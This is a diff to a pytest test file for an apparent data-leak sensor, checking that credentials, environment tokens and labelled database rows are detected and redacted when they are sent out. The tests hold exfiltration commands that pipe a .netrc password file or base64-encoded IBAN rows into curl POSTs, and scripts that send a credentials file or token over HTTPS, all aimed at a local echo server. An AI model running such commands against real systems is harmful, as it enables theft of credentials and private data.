@@ -11,21 +11,34 @@ import pytest
 
 from examples.live import postgres
 from examples.live.model import serving
-from sensor.event import CaptureStatus, DatabaseQueried, Event, FileOpened, HttpRequested, SensitiveSent, ToolServed
+from sensor.event import (
+    CaptureStatus,
+    DatabaseQueried,
+    Event,
+    FileOpened,
+    HttpRequested,
+    OutputWritten,
+    ProcessStarted,
+    SensitiveSent,
+    ToolServed,
+)
 from sensor.probes.observation import observed
 from sensor.probes.origin import Origin
 from sensor.probes.sensor import Sensor
+from sensor.redact import LABELLED
 from sensor.sensitive import Labels, built_in
 from tests.kernel.conftest import python
 from tests.kernel.test_tools import CLIENT as TOOL_CLIENT
 from tests.kernel.test_tools import SERVER as TOOL_SERVER
 
 KEY = "AKIAQ7RZ2EXAMPLE3456"
+PLAIN = "kT7pQ2vLm9Xz4Rb8"
+"""Of no form that is known: only because it was read of something sensitive it is no text like others."""
+IBAN = "DE89370400440532013000"
 SENDS = """
-import base64, http.client, ssl, sys, time
+import base64, http.client, ssl, sys
 place, port, certificate, what = sys.argv[1:]
 text = open(place).read()
-time.sleep(0.3)
 body = base64.b64encode(text.encode()) if what == "it" else b"nothing of note, in 2026-11"
 there = http.client.HTTPSConnection("localhost", int(port), context=ssl.create_default_context(cafile=certificate))
 there.request("POST", "/echo", body)
@@ -52,7 +65,9 @@ def test_data_of_a_file_of_credentials_is_known_again(sensor: Sensor, tmp_path: 
     assert [one.path for one in found if isinstance(one, FileOpened) and one.path == str(place)]
     sent = [one for one in found if isinstance(one, SensitiveSent)]
     if what == "it":
-        assert [(one.name, one.url, one.pieces) for one in sent] == [(str(place), f"https://localhost:{port}/echo", 1)]
+        assert [(one.name, one.url, one.own, one.pieces) for one in sent] == [
+            (str(place), f"https://localhost:{port}", True, 1)
+        ]
         assert KEY not in sent[0].content
     else:
         assert sent == []
@@ -68,12 +83,12 @@ def told(
         part for one in found if isinstance(one, CaptureStatus) for part in one.unseen if "where it leaves" in part
     ]
     assert KEY not in "".join(one.content for one in found if isinstance(one, SensitiveSent))
+    assert PLAIN not in "".join(one.content for one in found)
     return found, [one for one in found if isinstance(one, SensitiveSent)]
 
 
 SENDS_VARIABLE = """
-import http.client, os, ssl, sys, time
-time.sleep(0.3)
+import http.client, os, ssl, sys
 port, certificate, way = sys.argv[1:]
 key = os.environ["CRM_TOKEN"]
 there = http.client.HTTPSConnection("localhost", int(port), context=ssl.create_default_context(cafile=certificate))
@@ -91,7 +106,7 @@ def test_a_variable_is_known_again_but_in_the_header_that_it_is_for(
     )
 
     assert [one.url for one in found if isinstance(one, HttpRequested)] == [f"https://localhost:{port}/echo"]
-    wanted = [("variable", "CRM_TOKEN", f"https://localhost:{port}/echo", 1)] if way == "body" else []
+    wanted = [("variable", "CRM_TOKEN", f"https://localhost:{port}", 1)] if way == "body" else []
     assert [(one.what, one.name, one.url, one.pieces) for one in sent] == wanted
 
 
@@ -126,10 +141,11 @@ def test_rows_of_a_labelled_table_are_known_again(
     ask = f"psql -XAtc 'SELECT iban FROM accounts /* {table} */' > {tmp_path}/rows"  # noqa: S608 - no statement of ours
     send = f"base64 {tmp_path}/rows | curl -s --cacert {tmp_path}/cert.pem -d @- https://localhost:{port}/echo"
     labels = LABELS if table == "accounts" else None
-    found, sent = told(sensor, ["sh", "-c", f"{ask}; sleep 0.3; {send}"], labels, **database)
+    found, sent = told(sensor, ["sh", "-c", f"{ask}; {send}"], labels, **database)
 
     assert [one.rows for one in found if isinstance(one, DatabaseQueried)] == [1]
-    wanted = [("table", "accounts", f"https://localhost:{port}/echo")] if labels else []
+    assert (IBAN in "".join(one.content for one in found)) == (labels is None)
+    wanted = [("table", "accounts", f"https://localhost:{port}")] if labels else []
     assert [(one.what, one.name, one.url) for one in sent] == wanted
 
 
@@ -144,7 +160,36 @@ def test_what_goes_into_a_database_is_looked_through_but_not_what_is_from_there(
     )
     asked = [one for one in found if isinstance(one, DatabaseQueried)]
 
-    assert [one.statement for one in asked] == statements
+    assert [one.statement for one in asked][::2] == statements[::2]
+    assert IBAN not in "".join(one.content for one in asked)
     assert [(one.what, one.name, one.url, one.trace_id) for one in sent] == [
         ("variable", "CRM_TOKEN", f"postgresql://{where}", asked[2].trace_id)
     ]
+
+
+@pytest.mark.skipif(not shutil.which("curl"), reason="no curl here")
+@pytest.mark.parametrize(
+    "command",
+    ["cat {} | curl -d @- $0", "curl -d @{} $0", 'B=$(base64 {}); curl -d "$B" $0', "(base64 <{} | curl -d @- $0)"],
+)
+def test_data_of_a_file_is_known_again_where_who_read_it_is_gone_at_once(
+    sensor: Sensor, tmp_path: Path, port: int, command: str
+) -> None:
+    place = tmp_path / ".netrc"
+    place.write_text(f"machine crm.example password {PLAIN}\n")
+    (tmp_path / ".curlrc").write_text(f"silent\ncacert = {tmp_path}/cert.pem\n")
+    given = ["sh", "-c", command.format(place), f"https://localhost:{port}/echo"]
+    _, sent = told(sensor, given, CURL_HOME=str(tmp_path))
+
+    assert [(one.name, one.url, one.own) for one in sent] == [
+        (str(place), f"https://localhost:{port}", "-d @/" in given[2])
+    ]
+
+
+def test_what_programs_hand_each_other_is_told_with_placeholders(sensor: Sensor, tmp_path: Path) -> None:
+    place = tmp_path / ".netrc"
+    place.write_text(f"{PLAIN}\n")
+    found, _ = told(sensor, ["sh", "-c", f"cat {place} | sh -c 'read it; exec env echo $it' | cat >&2"])
+
+    shown = [one for one in found if isinstance(one, OutputWritten | ProcessStarted) and LABELLED in one.content]
+    assert {one.kind for one in shown} == {"output_written", "process_started"}
